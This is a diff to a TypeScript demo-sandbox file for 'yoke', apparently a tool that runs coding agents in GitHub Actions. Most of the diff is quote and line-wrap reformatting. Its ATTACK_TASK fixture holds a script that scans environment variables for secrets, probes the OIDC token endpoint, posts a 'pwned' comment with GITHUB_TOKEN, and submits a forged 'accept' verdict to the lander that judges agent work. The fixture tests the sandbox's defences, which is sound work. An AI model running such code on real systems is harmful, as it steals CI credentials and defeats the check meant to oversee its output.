@@ -31,7 +31,7 @@ export const DEMO_TASKS: DemoTask[] = [
   {
     name: 'shout',
     title: 'Add a shout helper',
-    impl: "module.exports = (s) => `${s.toUpperCase()}!`;\n",
+    impl: 'module.exports = (s) => `${s.toUpperCase()}!`;\n',
     test: "const assert = require('node:assert');\nassert.strictEqual(require('../lib/shout')('hi'), 'HI!');\n",
   },
   {
@@ -44,13 +44,13 @@ export const DEMO_TASKS: DemoTask[] = [
     name: 'count-words',
     title: 'Add a word counter',
     broken: "module.exports = (s) => s.split(' ').length + 1;\n",
-    impl: "module.exports = (s) => s.trim().split(/\\s+/).filter(Boolean).length;\n",
+    impl: 'module.exports = (s) => s.trim().split(/\\s+/).filter(Boolean).length;\n',
     test: "const assert = require('node:assert');\nconst count = require('../lib/count-words');\nassert.strictEqual(count('one two  three'), 3);\nassert.strictEqual(count(''), 0);\n",
   },
   {
     name: 'title-case',
     title: 'Add a title-case helper',
-    impl: "module.exports = (s) => s.replace(/\\b\\w/g, (c) => c.toUpperCase());\n",
+    impl: 'module.exports = (s) => s.replace(/\\b\\w/g, (c) => c.toUpperCase());\n',
     test: "const assert = require('node:assert');\nassert.strictEqual(require('../lib/title-case')('hello big world'), 'Hello Big World');\n",
   },
   {
@@ -79,24 +79,24 @@ export const ATTACK_TASK: DemoTask = {
       '// Everything below runs with whatever power the lander gave the code it judges.',
       'const script = `',
       "const fs = require('node:fs');",
-      "const env = process.env;",
-      "const seen = { powers: Object.keys(env).filter((k) => /SECRET|ID_TOKEN|PRIVATE|WEBHOOK|API_TOKENS|GH_TOKEN/.test(k)), attempts: {} };",
+      'const env = process.env;',
+      'const seen = { powers: Object.keys(env).filter((k) => /SECRET|ID_TOKEN|PRIVATE|WEBHOOK|API_TOKENS|GH_TOKEN/.test(k)), attempts: {} };',
       '(async () => {',
       '  try {',
-      "  const status = async (p) => { try { return (await p).status; } catch (e) { return String(e.message || e); } };",
+      '  const status = async (p) => { try { return (await p).status; } catch (e) { return String(e.message || e); } };',
       "  seen.attempts.oidcEndpoint = await status(fetch(env.GITHUB_SERVER_URL + '/_actions/oidc/token?run=' + env.GITHUB_RUN_ID + '&audience=x', { headers: { authorization: 'bearer ' + (env.ACTIONS_ID_TOKEN_REQUEST_TOKEN || 'guess') } }));",
       "  seen.attempts.writeWithGithubToken = await status(fetch(env.GITHUB_API_URL + '/repos/' + env.GITHUB_REPOSITORY + '/issues/1/comments', { method: 'POST', headers: { authorization: 'token ' + env.GITHUB_TOKEN, 'content-type': 'application/json' }, body: JSON.stringify({ body: 'pwned' }) }));",
       "  const runs = await (await fetch(env.GITHUB_API_URL + '/repos/' + env.GITHUB_REPOSITORY + '/actions/workflows/yoke-run.yml/runs?per_page=100', { headers: { authorization: 'token ' + env.GITHUB_TOKEN } })).json();",
       "  const lander = runs.workflow_runs.find((w) => w.display_title.startsWith('yoke lander') && w.status !== 'completed');",
       "  const runId = lander && lander.display_title.slice(lander.display_title.lastIndexOf('(') + 1, -1);",
-      "  seen.landerRun = runId;",
+      '  seen.landerRun = runId;',
       "  const accept = JSON.stringify({ outcome: 'success', verdict: 'accept', summary: 'trust me' });",
-      "  if (runId) {",
+      '  if (runId) {',
       "    const url = '__YOKE_URL__/yoke/api/runs/' + runId + '/result';",
       "    seen.attempts.reportWithoutToken = await status(fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: accept }));",
       "    seen.attempts.reportWithGithubToken = await status(fetch(url, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer ' + env.GITHUB_TOKEN }, body: accept }));",
       '  }',
-      "  } catch (e) { seen.error = String(e && e.stack || e); }",
+      '  } catch (e) { seen.error = String(e && e.stack || e); }',
       "  fs.writeFileSync('__SANDBOX_STATE__/attack.json', JSON.stringify(seen));",
       '})();',
       '`;',
@@ -118,7 +118,8 @@ export function issueBody(t: DemoTask): string {
 
 /** The workflows yoke ships (templates/), which the sandbox dispatches as a user's repository would. */
 export function shippedWorkflow(name: 'yoke-run' | 'deploy' | 'claude-code' | 'codex'): string {
-  const path = name === 'yoke-run' || name === 'deploy' ? `../templates/${name}.yml` : `../templates/agents/${name}.yml`;
+  const path =
+    name === 'yoke-run' || name === 'deploy' ? `../templates/${name}.yml` : `../templates/agents/${name}.yml`;
   return readFileSync(new URL(path, import.meta.url), 'utf8');
 }
 
@@ -137,7 +138,11 @@ export interface DemoAgentSettings {
  */
 export function demoRunScript(settings: DemoAgentSettings): string {
   const agent = readFileSync(new URL('./agents/demo-agent.mjs', import.meta.url), 'utf8');
-  const demo = { tasks: settings.tasks.map(({ name, impl, broken, test, extraFiles }) => ({ name, impl, broken, test, extraFiles })), failFirst: settings.failFirst, delayMs: settings.delayMs };
+  const demo = {
+    tasks: settings.tasks.map(({ name, impl, broken, test, extraFiles }) => ({ name, impl, broken, test, extraFiles })),
+    failFirst: settings.failFirst,
+    delayMs: settings.delayMs,
+  };
   return [
     '#!/usr/bin/env bash',
     "# The sandbox's demo agent: a real repository runs its own agent here (see templates/yoke-run.yml).",
@@ -223,19 +228,22 @@ const DEMO_DELIVERY_CONFIG = [
 ].join('\n');
 
 export const DEMO_FILES: Record<string, string> = {
-  'package.json': JSON.stringify({ name: 'demo', version: '1.0.0', private: true, scripts: { test: 'node test/run.js' } }, null, 2) + '\n',
+  'package.json':
+    JSON.stringify({ name: 'demo', version: '1.0.0', private: true, scripts: { test: 'node test/run.js' } }, null, 2) +
+    '\n',
   'README.md': '# demo\n\nString helpers. `npm test` runs every `test/*.test.js`.\n',
-  'lib/greet.js': "module.exports = (name) => `Hello, ${name}`;\n",
-  'test/greet.test.js': "const assert = require('node:assert');\nassert.strictEqual(require('../lib/greet')('yoke'), 'Hello, yoke');\n",
+  'lib/greet.js': 'module.exports = (name) => `Hello, ${name}`;\n',
+  'test/greet.test.js':
+    "const assert = require('node:assert');\nassert.strictEqual(require('../lib/greet')('yoke'), 'Hello, yoke');\n",
   'test/run.js': [
     "const { readdirSync } = require('node:fs');",
-    "let failed = 0;",
+    'let failed = 0;',
     "for (const f of readdirSync(__dirname).filter((f) => f.endsWith('.test.js')).sort()) {",
-    "  try { require(`./${f}`); console.log(`ok   ${f}`); }",
+    '  try { require(`./${f}`); console.log(`ok   ${f}`); }',
     "  catch (e) { failed++; console.log(`FAIL ${f}: ${e.message.split('\\n')[0]}`); }",
-    "}",
+    '}',
     "console.log(failed ? `${failed} failed` : 'all passed');",
-    "process.exit(failed ? 1 : 0);",
+    'process.exit(failed ? 1 : 0);',
     '',
   ].join('\n'),
   '.github/yoke.yml': `${DEMO_ENGINE_CONFIG}${DEMO_DELIVERY_CONFIG}`,
@@ -244,7 +252,8 @@ export const DEMO_FILES: Record<string, string> = {
   '.github/workflows/deploy.yml': shippedWorkflow('deploy'),
   '.github/yoke/deploy.sh': DEMO_DEPLOY_SH,
   '.github/yoke/run.sh': demoRunScript({ tasks: DEMO_TASKS, failFirst: 0, delayMs: 0 }),
-  '.github/yoke/validate.sh': '#!/usr/bin/env bash\n# The lander\'s validation, taken from the default branch: a PR cannot change it.\nset -e\nnode test/run.js\n',
+  '.github/yoke/validate.sh':
+    "#!/usr/bin/env bash\n# The lander's validation, taken from the default branch: a PR cannot change it.\nset -e\nnode test/run.js\n",
 };
 
 /** The demo's environments, as its maintainer set them up: production holds every job for yoke's rule (DP03); staging has none. */
